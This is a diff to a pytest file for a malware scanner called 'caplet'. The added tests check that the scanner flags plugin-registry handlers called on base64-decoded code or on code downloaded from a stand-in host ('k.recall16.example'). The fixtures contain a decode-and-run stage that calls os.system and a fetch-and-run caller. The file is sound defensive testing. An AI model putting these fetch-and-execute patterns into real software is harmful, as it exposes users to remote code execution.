@@ -17,6 +17,7 @@ import pytest
 from caplet._findings import Severity
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_tree
+from tests._scan.prefilterkit import tree_both_ways
 from tests._scan.scankit import write_tree
 
 _STAGE = base64.b64encode(b"import os; os.system('id')").decode()
@@ -104,3 +105,74 @@ def test_a_registry_that_runs_nothing_decoded_stays_clean(
     report = scan_tree(tmp_path, mode=mode)
     threats = {f.rule_id for f in report.findings if f.rule_id.startswith("CPL-THR-00")}
     assert threats == set()
+
+
+#: recall16 (recall14's open row): the registry reached as an attribute of its module,
+#: imported relatively, absolutely, renamed, or by a dotted ``import``. Clean on main.
+MODULE_CALLERS = {
+    "relative-module": (
+        "import base64\nfrom . import registry\n\n"
+        f"registry.HANDLERS['run'](base64.b64decode({_STAGE!r}).decode())\n"
+    ),
+    "absolute-renamed-get": (
+        "import base64\nimport pluginz.registry as reg\n\n"
+        f"reg.HANDLERS.get('run')(base64.b64decode({_STAGE!r}).decode())\n"
+    ),
+    "dotted-import": (
+        "import urllib.request\nimport pluginz.registry\n\n"
+        "pluginz.registry.HANDLERS['run'](\n"
+        "    urllib.request.urlopen('https://k.recall16.example/s').read().decode())\n"
+    ),
+    "from-package": (
+        "import base64\nfrom pluginz import registry as r\n\n"
+        f"r.HANDLERS.pop('run')(base64.b64decode({_STAGE!r}))\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("registry", REGISTRIES.values(), ids=REGISTRIES.keys())
+@pytest.mark.parametrize("caller", MODULE_CALLERS.values(), ids=MODULE_CALLERS.keys())
+def test_a_registry_called_as_its_modules_attribute_is_a_threat(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, registry: str, caller: str
+) -> None:
+    write_tree(
+        tmp_path,
+        {"setup.py": _SETUP, "pluginz/registry.py": registry, "pluginz/api.py": caller},
+    )
+    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
+    assert filtered == whole
+    assert {(r, f) for r, f, _ in whole} & {
+        ("CPL-THR-001", "pluginz/api.py"),
+        ("CPL-THR-002", "pluginz/api.py"),
+    }
+    plugin = scan_tree(tmp_path, mode=ScanMode.PLUGIN)
+    assert any(f.file == "pluginz/api.py" and f.rule_id < "CPL-THR-003" for f in plugin.findings)
+
+
+@pytest.mark.parametrize(
+    "caller",
+    [
+        # the module's container of sinks called on a literal
+        "from . import registry\n\nregistry.HANDLERS['run']('x = 1')\n",
+        # another module's container of the same name, which holds no sinks
+        "import base64\nfrom . import other\n\nother.HANDLERS['show'](base64.b64decode(b'aGk='))\n",
+        # an object's attribute of that name, no module at all
+        "import base64\n\nclass C:\n    HANDLERS = {'show': print}\n\n"
+        "C.HANDLERS['show'](base64.b64decode(b'aGk='))\n",
+    ],
+    ids=["literal-code", "other-module", "class-attribute"],
+)
+def test_a_modules_registry_that_runs_nothing_decoded_stays_clean(
+    tmp_path: Path, caller: str
+) -> None:
+    write_tree(
+        tmp_path,
+        {
+            "setup.py": _SETUP,
+            "pluginz/registry.py": REGISTRIES["literal"],
+            "pluginz/other.py": "HANDLERS = {'show': print}\n",
+            "pluginz/api.py": caller,
+        },
+    )
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    assert {f.rule_id for f in report.findings if f.rule_id.startswith("CPL-THR-00")} == set()
